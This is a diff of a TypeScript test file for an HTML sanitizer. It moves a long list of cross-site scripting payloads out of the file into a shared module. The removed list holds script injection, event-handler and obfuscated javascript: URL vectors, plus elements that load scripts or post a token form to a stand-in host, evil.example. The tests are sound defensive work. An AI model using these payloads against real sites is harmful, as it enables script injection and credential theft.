@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest'
+import { hostileHtml } from '#contract/testing/hostile-html.ts'
 import { cleanHtml } from './clean-html.ts'
 
 const cleaned = (html: string) => String(cleanHtml(html))
@@ -28,53 +29,10 @@ function strangers(html: string): string[] {
   })
 }
 
-const deep = (tag: string, levels: number, inside: string) =>
-  `<${tag}>`.repeat(levels) + inside + `</${tag}>`.repeat(levels)
-
-const nasty = [
-  '<script>alert(1)</script>',
-  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="https://a.example/a.png" onload=alert(1)>',
-  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-  '<img src="mailto:a@example.org">',
-  '<img src="//evil.example/track.gif">',
-  '<img src="http://evil.example/track.gif">',
-  '<img srcset="https://evil.example/a.png 1x" src="/media/public/a.webp">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href="java\nscript:alert(1)">x</a>',
-  '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href=" \u0001javascript:alert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="//evil.example">x</a>',
-  '<a href="/logout" ping="https://evil.example">x</a>',
-  '<a href="https:evil.example" id="userData" name="userData">x</a>',
-  '<p style="position:fixed;inset:0" class="fixed" id="root">x</p>',
-  '<p onclick="alert(1)" data-x="1" aria-label="Logout">x</p>',
-  '<form action="https://evil.example"><input name="token"><button>Log in</button></form>',
-  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
-  '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<table><td><template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></template></td></table>',
-  '<style>@import "https://evil.example/x.css";</style><link rel=stylesheet href=https://evil.example/x.css>',
-  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
-  '<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>',
-  '<p is="x-evil"><x-evil onclick=alert(1)>x</x-evil></p>',
-  '<a href="x" src="https://evil.example/a.png" alt="x">x</a><p src="/media/a" href="/media/a">x</p>',
-  '<body onload=alert(1)><img/src="x"/onerror=alert(1)//',
-  '<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>',
-  deep('blockquote', 300, '<img src=x onerror=alert(1)>'),
-  deep('svg', 60, '<style><img src=x onerror=alert(1)></style>'),
-]
-
 describe('what an article has no use for is gone', () => {
-  test.each(nasty.map((html) => [html.slice(0, 80), html]))('%s', (_, html) => expect(strangers(html)).toEqual([]))
+  test.each(hostileHtml.map((html) => [html.slice(0, 80), html]))('%s', (_, html) =>
+    expect(strangers(html)).toEqual([]),
+  )
 })
 
 describe('what an article needs is there', () => {
